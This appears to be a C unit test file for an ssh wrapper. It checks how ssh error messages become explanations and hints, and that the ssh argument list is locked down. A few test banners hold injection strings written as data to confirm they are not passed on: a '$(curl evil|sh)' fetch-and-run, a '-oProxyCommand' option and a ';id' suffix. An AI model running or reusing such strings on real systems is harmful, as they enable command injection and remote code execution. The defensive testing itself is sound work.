/* Claims about calling ssh and about what its complaints mean: a table of its own
 * words. */
#include "target/ssh.h"

#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

static const struct place_address plain = {.kind = PLACE_SSH, .host = "web1.example", .path = "shop"};
static const struct place_address full = {
	.kind = PLACE_SSH, .user = "deploy", .host = "10.0.0.7", .port = 2222, .path = "/srv/shop"};

static const struct {
	const char *name;
	const char *errors;
	const char *noise;
	int status;
	enum err_code code;
	const char *text; /* must be in the error */
	const char *hint; /* must be in the hint */
} cases[] = {
	{"an unknown host key",
	 "No ED25519 host key is known for [10.0.0.7]:2222 and you have requested strict checking.\r\n"
	 "Host key verification failed.\r\n",
	 "", 255, ERR_DENIED, "the host key of 10.0.0.7 is not known here",
	 "ssh-keyscan -p 2222 10.0.0.7 >>"},
	{"a changed host key",
	 "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\r\n"
	 "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n"
	 "IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\n"
	 "The fingerprint for the ED25519 key sent by the remote host is\n"
	 "SHA256:4cV9kq0q6z3R8hQm1bqkq0q6z3R8hQm1bqkq0q6z3R8.\r\n"
	 "Offending ED25519 key in /home/ada/.ssh/known_hosts:3\r\n"
	 "Host key verification failed.\r\n",
	 "", 255, ERR_DENIED, "SHA256:4cV9kq0q6z3R8hQm1bqkq0q6z3R8hQm1bqkq0q6z3R8.",
	 "ssh-keygen -R '[10.0.0.7]:2222'"},
	{"an alias whose host key is unknown",
	 "No ED25519 host key is known for web.example.com and you have requested strict checking.\r\n"
	 "Host key verification failed.\r\n",
	 "", 255, ERR_DENIED, "the host key of 10.0.0.7 is not known here",
	 "ssh-keyscan web.example.com >> ~/.ssh/known_hosts && ssh-keygen -lF 'web.example.com'"},
	{"an alias whose host key has changed",
	 "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n"
	 "Host key for [web.example.com]:2200 has changed and you have requested strict checking.\r\n"
	 "Host key verification failed.\r\n",
	 "", 255, ERR_DENIED, "shows another host key",
	 "ssh-keygen -R '[web.example.com]:2200' && ssh-keyscan -p 2200 web.example.com >>"},
	{"a command in a banner is not handed on",
	 "No ED25519 host key is known for $(curl evil|sh) and you have requested strict checking.\r\n", "", 255,
	 ERR_DENIED, "not known here", "ssh-keyscan -p 2222 10.0.0.7 >>"},
	{"an option in a banner is not handed on",
	 "No ED25519 host key is known for -oProxyCommand=x and you have requested strict checking.\r\n", "", 255,
	 ERR_DENIED, "not known here", "ssh-keyscan -p 2222 10.0.0.7 >>"},
	{"brackets without a port are not handed on",
	 "No ED25519 host key is known for [10.0.0.9] and you have requested strict checking.\r\n", "", 255,
	 ERR_DENIED, "not known here", "ssh-keyscan -p 2222 10.0.0.7 >>"},
	{"words behind a port are not handed on",
	 "No ED25519 host key is known for [10.0.0.9]:22;id and you have requested strict checking.\r\n", "", 255,
	 ERR_DENIED, "not known here", "ssh-keyscan -p 2222 10.0.0.7 >>"},
	{"what is no name of a host is not handed on",
	 "No ED25519 host key is known for a'b and you have requested strict checking.\r\n", "", 255, ERR_DENIED,
	 "not known here", "ssh-keyscan -p 2222 10.0.0.7 >>"},
	{"no key fits", "deploy@10.0.0.7: Permission denied (publickey,password).\r\n", "", 255, ERR_DENIED,
	 "10.0.0.7 accepts none of your keys", "ssh -p 2222 deploy@10.0.0.7"},
	{"no such name", "ssh: Could not resolve hostname 10.0.0.7: Name or service not known\r\n", "", 255,
	 ERR_NETWORK, "there is no host called", ""},
	{"nothing listens", "ssh: connect to host 10.0.0.7 port 2222: Connection refused\r\n", "", 255,
	 ERR_NETWORK, "nothing listens for ssh on 10.0.0.7", "sshd"},
	{"no answer", "ssh: connect to host 10.0.0.7 port 2222: Connection timed out\r\n", "", 255,
	 ERR_NETWORK, "10.0.0.7 does not answer", "firewall"},
	{"no answer to the greeting", "Connection timed out during banner exchange\r\n", "", 255, ERR_NETWORK,
	 "does not answer", ""},
	{"no route", "ssh: connect to host 10.0.0.7 port 2222: No route to host\r\n", "", 255, ERR_NETWORK,
	 "cannot be reached", ""},
	{"too many at once", "kex_exchange_identification: Connection closed by remote host\r\n", "", 255,
	 ERR_NETWORK, "hung up before", "MaxStartups"},
	{"the line went silent", "Timeout, server 10.0.0.7 not responding.\r\n", "", 255, ERR_NETWORK,
	 "went silent", ""},
	{"a key for all to read",
	 "@         WARNING: UNPROTECTED PRIVATE KEY FILE!          @\r\n"
	 "Permissions 0644 for '/home/ada/.ssh/id' are too open.\r\nPermission denied (publickey).\r\n",
	 "", 255, ERR_DENIED, "/home/ada/.ssh/id", "chmod 600"},
	{"too many keys", "Received disconnect from 10.0.0.7 port 22:2: Too many authentication failures\r\n",
	 "", 255, ERR_DENIED, "too many keys", "IdentitiesOnly"},
	{"a login that is closed", "", "This account is currently not available.\n", 1, ERR_DENIED,
	 "may not log in", "usermod"},
	{"a forced command", "", "sftp only\n", 1, ERR_DENIED,
	 "did not run our command (status 1): sftp only", "forced command"},
	{"ssh was killed", "", "", 137, ERR_NETWORK, "ssh was ended by signal 9", ""},
	{"something new", "ssh: the dog ate the cable\r\n", "", 255, ERR_NETWORK,
	 "ssh could not connect to 10.0.0.7: ssh: the dog ate the cable", ""},
	{"nothing said", "", "", 255, ERR_NETWORK, "ssh could not connect to 10.0.0.7", ""},
	{"colours are not passed on", "\x1b[31mred\x1b[0m\r\n", "", 255, ERR_NETWORK, "\\x1b[31mred", ""},
};

static void complaints_are_understood(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct err err = ERR_INIT;
		int status =
			ssh_explain(&full, cases[i].status, cases[i].errors, slice_of(cases[i].noise), &err);
		assert_int_equal(status, -1);
		if (err.code != cases[i].code || !strstr(err.text, cases[i].text) ||
		    !strstr(err.hint, cases[i].hint))
			fail_msg("%s: code %d, %s (%s)", cases[i].name, err.code, err.text, err.hint);
	}
}

static bool has(const char *const *list, const char *word)
{
	for (; *list; list++)
		if (strcmp(*list, word) == 0)
			return true;
	return false;
}

static void arguments_are_strict_and_complete(void **state)
{
	(void)state;
	AUTO(arena_free) struct arena arena = ARENA_INIT;
	const char *const *list = ssh_arguments(&arena, "  ssh -F /x/y ", &full, "command here");
	assert_string_equal(list[0], "ssh");
	assert_string_equal(list[1], "-F");
	assert_string_equal(list[2], "/x/y");
	static const char *const wanted[] = {"BatchMode=yes",
					     "StrictHostKeyChecking=yes",
					     "ForwardAgent=no",
					     "ForwardX11=no",
					     "ClearAllForwardings=yes",
					     "-T",
					     "2222",
					     "deploy"};
	for (size_t i = 0; i < ARRAY_LEN(wanted); i++)
		assert_true(has(list, wanted[i]));
	size_t count = 0;
	while (list[count])
		count++;
	assert_string_equal(list[count - 3], "--");
	assert_string_equal(list[count - 2], "10.0.0.7");
	assert_string_equal(list[count - 1], "command here");

	list = ssh_arguments(&arena, "", &plain, "x");
	assert_string_equal(list[0], "ssh");
	assert_false(has(list, "-p"));
	assert_false(has(list, "-l"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(complaints_are_understood),
		cmocka_unit_test(arguments_are_strict_and_complete),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
